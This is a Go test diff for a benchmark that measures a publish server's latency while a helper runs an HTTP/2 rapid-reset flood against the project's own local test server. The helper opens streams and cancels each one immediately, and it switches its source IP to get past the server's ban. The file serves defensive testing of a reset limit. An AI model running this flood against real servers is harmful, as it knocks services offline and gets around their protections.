@@ -37,9 +37,9 @@ func hpackLiteral(dst []byte, name, value string) []byte {
 // rapidReset opens an h2c connection and, until ctx ends, opens streams
 // (HEADERS of a Publish) and resets each at once (RST_STREAM CANCEL), in
 // batches, as fast as the connection takes them; when the server closes
-// the connection (GOAWAY or not) it opens another. It counts the resets
-// sent and the connections the server closed.
-func rapidReset(ctx context.Context, addr string, resets, closed *atomic.Int64) {
+// the connection (GOAWAY or not) it opens another at once. It counts the
+// resets sent, the connections the server closed and the dials.
+func rapidReset(ctx context.Context, addr string, resets, closed, dials *atomic.Int64) {
 	var block []byte
 	block = hpackLiteral(block, ":method", "POST")
 	block = hpackLiteral(block, ":scheme", "http")
@@ -48,14 +48,21 @@ func rapidReset(ctx context.Context, addr string, resets, closed *atomic.Int64) 
 	block = hpackLiteral(block, "content-type", "application/proto")
 	rst := binary.BigEndian.AppendUint32(nil, 0x8) // CANCEL
 	for ctx.Err() == nil {
-		c, err := net.Dial("tcp", addr)
+		dials.Add(1)
+		// Another address than the publisher's: the server refuses the
+		// attacker's IP for a while after cutting it.
+		d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, 2)}}
+		c, err := d.Dial("tcp", addr)
 		if err != nil {
 			return
 		}
-		go func() { _, _ = io.Copy(io.Discard, c) }() // read (and drop) what the server sends
+		stop := context.AfterFunc(ctx, func() { c.Close() }) // a write blocked on a held connection ends with ctx
+		go func() { _, _ = io.Copy(io.Discard, c) }()        // read (and drop) what the server sends
 		buf := []byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
 		buf = h2frame(buf, 0x4, 0, 0, nil) // SETTINGS
 		if _, err := c.Write(buf); err != nil {
+			closed.Add(1)
+			stop()
 			c.Close()
 			continue
 		}
@@ -76,42 +83,56 @@ func rapidReset(ctx context.Context, addr string, resets, closed *atomic.Int64) 
 				break
 			}
 		}
+		stop()
 		c.Close()
 	}
 }
 
 // BenchmarkPublishUnderRapidReset measures one publisher's latency (p50 and
-// p99 per publish, over Connect on HTTP/1.1) on its own and while another
-// connection does an HTTP/2 rapid reset against the same server. Compare
-// the two p99s (docs/limits.md); resets/s is the attacker's pace.
+// p99 per publish, over Connect on HTTP/1.1) on its own, while another
+// connection does an HTTP/2 rapid reset against a server with the default
+// --max-h2-resets (the attacker is cut; its next connection is held
+// unserved for --h2-reset-penalty), and against one without that bound (Go's HTTP/2
+// server alone). Compare the p99s (docs/limits.md); resets-sent/s is the
+// pace of resets the attacker got written (into the socket: not all of
+// them reach the server), dials its connection attempts.
 //
-//	go test ./server/app -run '^$' -bench PublishUnderRapidReset -benchtime 2000x
+//	go test ./server/app -run '^$' -bench PublishUnderRapidReset -benchtime 5000x -count 4
 func BenchmarkPublishUnderRapidReset(b *testing.B) {
-	for _, attack := range []bool{false, true} {
-		name := "baseline"
-		if attack {
-			name = "rapid-reset"
-		}
-		b.Run(name, func(b *testing.B) {
-			srv := ringtest.Start(b, ringtest.Config())
+	for _, run := range []struct {
+		name        string
+		attack      bool
+		maxH2Resets int
+	}{{"baseline", false, 0}, {"rapid-reset", true, 0}, {"rapid-reset-unbounded", true, -1}} {
+		attack := run.attack
+		b.Run(run.name, func(b *testing.B) {
+			cfg := ringtest.Config()
+			cfg.Edge.MaxH2Resets = run.maxH2Resets
+			srv := ringtest.Start(b, cfg)
 			c := srv.Client(ringcast.ProtocolConnect)
+			d, _ := structpb.NewStruct(map[string]any{"n": 1})
+			publish := func() error {
+				_, err := c.Publish(context.Background(), connect.NewRequest(&ringcastv1.PublishRequest{Facts: []*ringcastv1.Fact{{Topic: "a", Type: "t", Payload: &ringcastv1.Fact_Data{Data: d}}}}))
+				return err
+			}
+			if err := publish(); err != nil { // its connection opens before the attack
+				b.Fatal(err)
+			}
 			ctx, cancel := context.WithCancel(context.Background())
-			var resets, closed atomic.Int64
+			var resets, closed, dials atomic.Int64
 			done := make(chan struct{})
 			if attack {
-				go func() { defer close(done); rapidReset(ctx, srv.Addr, &resets, &closed) }()
+				go func() { defer close(done); rapidReset(ctx, srv.Addr, &resets, &closed, &dials) }()
 				time.Sleep(200 * time.Millisecond) // let it get going
 			} else {
 				close(done)
 			}
-			d, _ := structpb.NewStruct(map[string]any{"n": 1})
 			lat := make([]time.Duration, 0, b.N)
 			b.ResetTimer()
 			start := time.Now()
 			for range b.N {
 				t0 := time.Now()
-				_, err := c.Publish(context.Background(), connect.NewRequest(&ringcastv1.PublishRequest{Facts: []*ringcastv1.Fact{{Topic: "a", Type: "t", Payload: &ringcastv1.Fact_Data{Data: d}}}}))
-				if err != nil {
+				if err := publish(); err != nil {
 					b.Fatal(err)
 				}
 				lat = append(lat, time.Since(t0))
@@ -124,8 +145,9 @@ func BenchmarkPublishUnderRapidReset(b *testing.B) {
 			b.ReportMetric(float64(lat[len(lat)/2].Microseconds()), "p50-µs")
 			b.ReportMetric(float64(lat[len(lat)*99/100].Microseconds()), "p99-µs")
 			if attack {
-				b.ReportMetric(float64(resets.Load())/elapsed.Seconds(), "resets/s")
+				b.ReportMetric(float64(resets.Load())/elapsed.Seconds(), "resets-sent/s")
 				b.ReportMetric(float64(closed.Load()), "conns-closed")
+				b.ReportMetric(float64(dials.Load()), "dials")
 			}
 		})
 	}
